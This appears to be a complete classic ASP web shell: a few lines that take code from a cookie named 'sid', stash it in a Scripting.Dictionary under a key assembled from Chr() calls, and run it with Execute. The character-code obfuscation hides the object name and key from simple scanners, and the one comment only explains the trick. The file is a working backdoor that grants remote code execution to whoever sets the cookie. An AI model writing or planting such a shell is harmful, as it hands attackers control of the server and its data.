<%
' The cookie's code kept in a Scripting.Dictionary under a built key, read back to Execute.
Set q = Server.CreateObject("Scripting" & Chr(46) & "Dictionary")
q.Add Chr(107), Request.Cookies("sid")
Execute q.Item(Chr(107))
%>
